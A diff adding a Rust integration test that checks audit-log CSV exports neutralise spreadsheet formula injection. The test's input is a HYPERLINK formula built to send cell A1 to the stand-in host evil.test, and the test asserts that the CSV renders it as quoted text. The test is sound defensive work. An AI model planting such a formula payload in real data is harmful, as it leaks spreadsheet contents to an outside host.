@@ -11,6 +11,7 @@ both_backends!(
     retention_over_the_api_refuses_bad_values_and_changes_nothing,
     compliance_exports_download_as_zips_of_json_lines,
     exports_refuse_get_and_cookie_posts_without_the_csrf_header_and_record_nothing,
+    audit_csv_cells_that_start_like_a_formula_come_out_as_text,
     the_console_shows_the_log_and_the_data_tab_and_refuses_members,
 );
 
@@ -342,6 +343,51 @@ async fn exports_refuse_get_and_cookie_posts_without_the_csrf_header_and_record_
         .filter(|e| e["action"].as_str().unwrap().ends_with(".exported"))
         .count();
     assert_eq!(exported, 3, "{log}");
+    server.stop().await;
+}
+
+/// A reason anyone with a say in it could type must not run as a formula in the
+/// spreadsheet of the admin who opens the export; the JSON lines keep it exactly.
+async fn audit_csv_cells_that_start_like_a_formula_come_out_as_text(db: TestDb) {
+    let server = Server::start(db).await;
+    server.user("cora@acme.test", Role::Admin).await;
+    let ana = server.user("ana@acme.test", Role::Member).await;
+    let admin = server.signed_in("cora@acme.test").await;
+    let reason = "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")";
+    let deactivated = admin
+        .post_json(
+            &format!("/users/{}/deactivate", ana.id),
+            &json!({ "reason": reason }),
+        )
+        .await;
+    assert_eq!(deactivated.status(), 200);
+
+    let csv_download = admin
+        .post("/audit/export?format=csv&action=user.deactivated")
+        .await;
+    assert_eq!(csv_download.status(), 200);
+    let body = csv_download.bytes().await.unwrap();
+    let mut reader = csv::Reader::from_reader(body.as_ref());
+    assert_eq!(&reader.headers().unwrap()[9], "reason");
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(&rows[0][9], format!("'{reason}"));
+    assert!(
+        rows[0]
+            .iter()
+            .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+        "{:?}",
+        rows[0]
+    );
+
+    let lines = admin
+        .post("/audit/export?format=jsonl&action=user.deactivated")
+        .await
+        .text()
+        .await
+        .unwrap();
+    let entry: Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
+    assert_eq!(entry["reason"], reason);
     server.stop().await;
 }
 
